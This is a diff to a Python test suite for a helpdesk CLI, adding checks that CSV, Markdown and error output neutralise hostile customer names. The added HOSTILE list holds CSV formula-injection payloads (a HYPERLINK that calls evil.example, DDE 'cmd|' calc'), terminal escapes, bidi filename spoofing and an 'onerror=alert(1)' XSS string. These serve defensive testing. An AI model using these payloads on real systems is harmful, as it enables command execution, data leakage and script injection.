@@ -113,6 +113,9 @@ EXPECT: dict[str, list[str]] = {
     "args_update_note_not_utf8.args": ["note:"],
     "args_new_description_stdin_not_utf8.args": ["--description"],
     "import_lone_surrogate.json": [":1: subject:", ":1: events[1].body:"],
+    # issue 13 item 23: what is echoed back is inert
+    "import_unknown_key_escape.json": [":1: evil\\x1b[2J\\u202e: unknown key"],
+    "args_show_unknown_ticket_escape.args": ["ticket \\x1b[2Jevil\\x07: no such ticket"],
     # issue 13 item 22: dates outside 1970-2200, durations beyond 100 years, an import dated in the future
     "args_show_at_year_1.args": ["--at", "outside the years 1970 to 2200"],
     "args_handover_at_year_1.args": ["--at", "outside the years 1970 to 2200"],
@@ -216,6 +219,7 @@ def _rejected_cleanly(name: str, cli_server, desk_db) -> None:
     assert r.stdout == ""
     lines = r.stderr.rstrip("\n").split("\n")
     assert lines and all(line.strip() for line in lines), repr(r.stderr)
+    assert not _CONTROL.search(r.stderr), f"not inert: {r.stderr!r}"
     for line in lines:
         assert _where_ok(name, line), f"does not say where: {line!r}"
         assert len(line) < 2000, "one problem per line, not a dump"
@@ -489,6 +493,37 @@ def recipe_planted_wal_link(seed: Path, work: Path) -> Recipe:
     return Recipe(db)
 
 
+HOSTILE = [  # (customer, subject) as customers write them
+    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\tTabbed Ltd", "\rCarriage return first"),
+    ("Evil\x1b[2J\x1b]0;pwned\x07 Corp\x00", "Bell\x07 and NUL\x00 and \x1b[31mred"),
+    ("Rh\u202eenola\u202c SA", "invoice\u202egpj.exe"),
+    ("Ac\u200bme\ufeff", "zero\u200bwidth\ufeff subject"),
+    ("[Click](https://evil.example) <img src=x onerror=alert(1)> | cell", "*bold* _it_ `code` # heading | pipe ~strike~"),
+]
+
+
+def recipe_hostile_names(seed: Path, work: Path) -> Recipe:
+    """A desk whose customers and subjects carry spreadsheet formulas, terminal escapes, bidi overrides, zero-width
+    characters and Markdown: P1 tickets opened 5 minutes ago (in the report's period, and due within the shift of
+    the handover), one of each kind of payload."""
+    from datetime import datetime, timedelta, timezone
+
+    from deskterm.config import load_config
+    from deskterm.service import Desk, NewTicket
+    from deskterm.store.engine import open_store
+
+    db = _copy_seed(seed, work)
+    store = open_store(db)
+    desk = Desk(store, load_config(EXAMPLE_CONFIG), user="alice")
+    at = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(minutes=5)
+    for customer, subject in HOSTILE:
+        desk.create(NewTicket(subject=subject, customer=customer, priority="P1", created_at=at))
+    store.dispose()
+    return Recipe(db)
+
+
 RECIPES = {name[len("recipe_"):]: fn for name, fn in globals().items() if name.startswith("recipe_")}
 
 
@@ -587,6 +622,37 @@ def check_backup_beside_the_link(r, work: Path, recipe: Recipe) -> None:
         assert conn.execute("SELECT version_num FROM alembic_version").fetchone() == ("0004",)
     finally:
         conn.close()
+
+
+def check_csv_inert(r, work: Path, recipe: Recipe) -> None:
+    """Every text cell of the CSV is inert and none can start a formula (OWASP: prefixed with ')."""
+    import csv
+    import io
+
+    assert not _CONTROL.search(r.stdout), "a control or invisible character reached the CSV"
+    rows = list(csv.reader(io.StringIO(r.stdout)))
+    names = [row[0] for row in rows[2:]]
+    assert len(names) == len(HOSTILE) + 2, names  # and the seed's Acme and Clinique Saint-Jean
+    for cell in (c for row in rows for c in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
+    assert "'=HYPERLINK(" in r.stdout and "'-2+3+cmd" in r.stdout and "'\\x09Tabbed Ltd" in r.stdout
+    assert "Evil\\x1b[2J" in r.stdout and "Rh\\u202eenola" in r.stdout and "Ac\\u200bme\\ufeff" in r.stdout
+
+
+def check_markdown_inert(r, work: Path, recipe: Recipe) -> None:
+    """Markdown that stays text when a chat or a viewer renders it: no link, image, HTML, emphasis or table cell
+    made by a customer, and nothing a terminal would act on."""
+    from markdown_it import MarkdownIt
+
+    assert not _CONTROL.search(r.stdout), "a control or invisible character reached the Markdown"
+    html = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(r.stdout)
+    for made in ("<a ", "<img", "<em>", "<strong>", "<code>", "<s>", "onerror=alert(1)>"):
+        assert made not in html, (made, html)
+    headings = sum(1 for line in r.stdout.splitlines() if line.startswith("#"))
+    assert len(re.findall("<h[1-6]>", html)) == headings  # deskterm's own headings only
+    for line in r.stdout.splitlines():  # a table row keeps its two cells
+        if line.startswith("|") and "cell" in line:
+            assert line.replace("\\|", "").count("|") == 3, line
 
 
 CHECKS = {name[len("check_"):]: fn for name, fn in globals().items() if name.startswith("check_")}
